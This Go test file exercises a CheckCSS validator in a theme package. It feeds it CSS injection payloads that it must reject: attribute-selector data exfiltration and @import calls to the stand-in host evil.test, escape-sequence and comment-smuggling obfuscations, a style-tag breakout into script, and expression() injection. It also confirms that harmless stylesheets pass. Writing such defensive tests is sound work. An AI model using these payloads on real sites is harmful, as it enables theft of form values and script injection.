package theme

import (
	"strings"
	"testing"
)

func TestAttackCSSThatLoadsOrReads(t *testing.T) {
	for _, sheet := range []string{
		`input[value^="a"]{background:url(//evil.test/a)}`,
		`@import "https://evil.test/x.css";`,
		`@IMPORT'//evil.test';`,
		`a{background:URL("/logout")}`,
		`a{background:image-set("//evil.test/x" 1x)}`,
		`a{background:-webkit-image-set("//evil.test/x" 1x)}`,
		`a{background:src("//evil.test")}`,
		`a{background:u\72l(//evil.test)}`,
		`@\69mport "//evil.test";`,
		`@font-face{font-family:x;unicode-range:U+61}`,
		`@namespace svg "//evil.test";`,
		`</style><script>alert(1)</script>`,
		`a{width:expression(alert(1))}`,
		`a{behavior:none}`,
		`a{-moz-binding:none}`,
		`input[value]{color:red}`,
		`input[*|VALUE ^= a]{color:red}`,
		`input[*/*]*/|value^=a]{color:red}`,
		`a{content:"/*"} input[value/**/^=a]{b:"*/"}`,
		`a{content:"/*"} @import "x"; /*"*/`,
		"a{content:\"/*\n} @import 'x'; /* \" */",
		"a{}\x00",
		"a{content:\"\xff\"}",
	} {
		if err := CheckCSS([]byte(sheet)); err == nil {
			t.Errorf("taken: %s", sheet)
		}
	}
}

func TestCSSThatOnlyPaintsIsTaken(t *testing.T) {
	for _, sheet := range []string{
		"", "main{}", `:root{--primary:#123456} @media (width >= 40rem){.card{border-radius:2rem}}`,
		"/* see url(x) and [value] */\na::before{content:\"– \"; background:linear-gradient(red, blue)}",
		`input[type="email"]{letter-spacing:.02em} .grid{grid-template-columns:[full-start] 1fr [full-end]}`,
		`/* unclosed @import`,
	} {
		if err := CheckCSS([]byte(sheet)); err != nil {
			t.Errorf("%s: %v", sheet, err)
		}
	}
}

func TestRefusedCSSNamesItsLine(t *testing.T) {
	err := CheckCSS([]byte("/* one\ntwo */\na{\n background: url(x)}"))
	if err == nil || !strings.Contains(err.Error(), `line 4 has "url("`) {
		t.Errorf("%v", err)
	}
}
